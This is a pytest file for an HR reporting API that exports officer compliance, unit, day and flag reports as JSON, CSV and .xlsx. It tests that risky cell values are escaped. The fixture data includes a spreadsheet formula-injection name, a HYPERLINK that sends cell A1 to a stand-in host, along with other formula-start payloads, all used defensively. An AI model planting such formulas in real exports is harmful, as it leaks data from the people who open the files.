"""Reports as JSON, CSV and .xlsx by content negotiation: compliance, units, days and flags."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import openpyxl
import polars as pl
import pytest
from sqlalchemy import select

from intake.pipeline import ingest_frame
from rollcall.tabular import XLSX_MEDIA_TYPE, escape_cell, to_csv
from rules.policy import load_policy
from store.db import transaction
from store.models import AuditEntry
from tests.api.helpers import TZ, Api

RANGE = {"from": "2026-10-05", "to": "2026-10-07"}
EVIL_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'


def _officers(api: Api) -> None:
    """Ranks, a name a spreadsheet would run as a formula, and a third officer in Unit A."""
    rows = [
        ("O1", EVIL_NAME, "Chief Inspector", "Unit A"),
        ("O2", "Sam Jones", "Superintendent", "Unit B"),
        ("O3", "+Kim Lee", "chief inspector", "unit a"),
    ]
    frame = pl.DataFrame(
        [(o, n, r, u, "true") for o, n, r, u in rows],
        schema=["officer_id", "display_name", "rank", "unit", "office_based"],
        orient="row",
    )
    with transaction(api.factory) as session:
        report = ingest_frame(
            session, "officers", frame, tz=TZ, policy=load_policy(), now=datetime.now(UTC)
        )
        assert report.counts["rejected"] == 0, report.errors


@pytest.fixture
def hr_world(world: Api) -> Api:
    _officers(world)
    return world


def _get(api: Api, path: str, accept: str | None = None, **params: str) -> object:
    headers = api.headers("hr")
    if accept is not None:
        headers["Accept"] = accept
    return api.client.get(path, params={**RANGE, **params}, headers=headers)


def test_compliance_json_has_names_ranks_and_case_insensitive_filters(hr_world: Api) -> None:
    r = hr_world.client.get("/v1/compliance", params=RANGE, headers=hr_world.headers("hr"))
    assert r.status_code == 200, r.text
    rows = {row["officer_id"]: row for row in r.json()["rows"]}
    assert (rows["O2"]["display_name"], rows["O2"]["rank"]) == ("Sam Jones", "Superintendent")
    units = hr_world.client.get(
        "/v1/compliance", params={**RANGE, "unit": "UNIT A"}, headers=hr_world.headers("hr")
    ).json()
    assert sorted(row["officer_id"] for row in units["rows"]) == ["O1", "O3"]
    ranks = hr_world.client.get(
        "/v1/compliance",
        params={**RANGE, "rank": "CHIEF INSPECTOR"},
        headers=hr_world.headers("hr"),
    ).json()
    assert sorted(row["officer_id"] for row in ranks["rows"]) == ["O1", "O3"]
    unknown = hr_world.client.get(
        "/v1/compliance", params={**RANGE, "unit": "Unit Q"}, headers=hr_world.headers("hr")
    )
    assert unknown.status_code == 400
    error = unknown.json()["error"]
    assert error["code"] == "unknown_filter_value"
    assert error["message"].startswith("unknown unit 'Unit Q'; nearest known: ")
    assert "Unit A" in error["message"]
    assert "Unit B" in error["message"]
    bad_rank = hr_world.client.get(
        "/v1/compliance", params={**RANGE, "rank": "Superintendant"}, headers=hr_world.headers("hr")
    )
    assert bad_rank.status_code == 400
    assert "nearest known: Superintendent" in bad_rank.json()["error"]["message"]


def test_compliance_csv_escapes_formulas_and_writes_booleans_one_way(hr_world: Api) -> None:
    r = _get(hr_world, "/v1/compliance", "text/csv")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert 'filename="compliance-2026-10-05-2026-10-07.csv"' in r.headers["content-disposition"]
    rows = {row["officer_id"]: row for row in csv.DictReader(io.StringIO(r.text))}
    assert rows["O1"]["display_name"] == "'" + EVIL_NAME
    assert rows["O3"]["display_name"] == "'+Kim Lee"
    assert rows["O2"]["display_name"] == "Sam Jones"
    assert rows["O1"]["meets_policy"] == "false"
    assert rows["O2"]["meets_policy"] == "true"
    assert rows["O1"]["expected_office_days"] == "3"
    entry = _last_audit(hr_world)
    assert (entry.action, entry.detail["rows"]) == ("read.compliance", 3)


def test_compliance_xlsx_is_typed_with_a_frozen_header(hr_world: Api) -> None:
    r = _get(hr_world, "/v1/compliance", XLSX_MEDIA_TYPE, below="true")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == XLSX_MEDIA_TYPE
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    assert book.sheetnames == ["compliance"]
    sheet = book["compliance"]
    assert sheet.freeze_panes == "A2"
    values = list(sheet.iter_rows(values_only=True))
    header, body = values[0], values[1:]
    row = dict(zip(header, body[0], strict=True))
    assert len(body) == 1
    assert row["officer_id"] == "O1"
    assert row["display_name"] == "'" + EVIL_NAME
    assert sheet.cell(row=2, column=header.index("display_name") + 1).data_type == "s"
    assert row["meets_policy"] is False
    assert row["expected_office_days"] == 3
    assert row["verified_office_share"] == pytest.approx(1 / 3, abs=1e-4)


def test_units_roll_up_and_drill_down(hr_world: Api) -> None:
    r = hr_world.client.get("/v1/compliance/units", params=RANGE, headers=hr_world.headers("hr"))
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["officers"] is None
    units = {u["unit"]: u for u in body["units"]}
    assert set(units) == {"Unit A", "Unit B", "unit a"}
    a = units["Unit A"]
    assert (a["officers"], a["officers_assessed"], a["officers_meeting_policy"]) == (1, 1, 0)
    assert a["officers_below_policy"] == 1
    assert a["median_share"] == a["p10_share"] == pytest.approx(0.3333)
    assert a["expected_office_days"] == 3
    assert units["Unit B"]["officers_assessed"] == 0
    assert units["Unit B"]["median_share"] is None
    drill = hr_world.client.get(a["officers_url"], headers=hr_world.headers("hr"))
    assert [row["officer_id"] for row in drill.json()["rows"]] == ["O1", "O3"]
    one = hr_world.client.get(
        "/v1/compliance/units",
        params={**RANGE, "unit": "unit a"},
        headers=hr_world.headers("hr"),
    ).json()
    assert sorted(u["unit"] for u in one["units"]) == ["Unit A", "unit a"]
    assert [o["officer_id"] for o in one["officers"]] == ["O1", "O3"]
    book = openpyxl.load_workbook(
        io.BytesIO(_get(hr_world, "/v1/compliance/units", XLSX_MEDIA_TYPE).content)
    )
    assert book.sheetnames == ["units", "officers"]
    assert book["units"].max_row == 4
    assert book["officers"].max_row == 4
    as_csv = _get(hr_world, "/v1/compliance/units", "text/csv").text
    assert as_csv.splitlines()[0].startswith("unit,officers,officers_assessed,")
    investigator = hr_world.client.get(
        "/v1/compliance/units", params=RANGE, headers=hr_world.headers("investigator")
    )
    assert investigator.status_code == 403


def test_days_in_three_forms(hr_world: Api) -> None:
    as_json = hr_world.client.get("/v1/days", params=RANGE, headers=hr_world.headers("hr"))
    assert as_json.status_code == 200, as_json.text
    rows = as_json.json()["rows"]
    assert [(r["officer_id"], r["date"]) for r in rows] == [
        ("O1", "2026-10-05"),
        ("O1", "2026-10-06"),
        ("O1", "2026-10-07"),
    ]
    text = _get(hr_world, "/v1/days", "text/csv;q=0.9, application/json;q=0.5").text
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert [r["verified_office_day"] for r in parsed] == ["true", "false", "false"]
    book = openpyxl.load_workbook(io.BytesIO(_get(hr_world, "/v1/days", XLSX_MEDIA_TYPE).content))
    cell = book["days"]["B2"]
    assert cell.is_date
    assert cell.value.date().isoformat() == "2026-10-05"
    too_long = hr_world.client.get(
        "/v1/days",
        params={"from": "2026-10-01", "to": "2026-11-30"},
        headers=hr_world.headers("hr"),
    )
    assert too_long.status_code == 400


def test_flags_as_csv_for_investigators(hr_world: Api) -> None:
    headers = {**hr_world.headers("investigator"), "Accept": "text/csv"}
    case = {"case_ref": "CASE-1"}
    r = hr_world.client.get("/v1/flags", params=case, headers=headers)
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert sorted(row["code"] for row in rows) == [
        "BELOW_OFFICE_SHARE",
        "IMPOSSIBLE_TRAVEL",
        "MOCK_LOCATION",
    ]
    assert {row["misconduct"] for row in rows} == {"true", "false"}
    assert rows[0]["evidence"].startswith("{")
    headers["Accept"] = XLSX_MEDIA_TYPE
    book = openpyxl.load_workbook(
        io.BytesIO(hr_world.client.get("/v1/flags", params=case, headers=headers).content)
    )
    assert book["flags"].max_row == 4


def test_unacceptable_media_type_is_406(hr_world: Api) -> None:
    r = _get(hr_world, "/v1/compliance", "image/png")
    assert r.status_code == 406
    assert r.json()["error"]["code"] == "not_acceptable"
    assert _get(hr_world, "/v1/compliance", "text/*").headers["content-type"].startswith("text/csv")
    assert _get(hr_world, "/v1/compliance", "*/*").headers["content-type"] == "application/json"


def test_escape_cell_and_csv_of_every_risky_start() -> None:
    starts = ["=1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", ""]
    assert [escape_cell(v) for v in starts] == [
        "'=1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "ok",
        "",
    ]
    frame = pl.DataFrame({"text": starts, "number": [-1.5] * len(starts)})
    parsed = list(csv.DictReader(io.StringIO(to_csv(frame).decode(), newline="")))
    assert [row["text"] for row in parsed] == [escape_cell(v) for v in starts]
    assert {row["number"] for row in parsed} == {"-1.5"}


def _last_audit(api: Api) -> AuditEntry:
    with api.factory() as session:
        return session.scalars(select(AuditEntry).order_by(AuditEntry.seq.desc())).first()
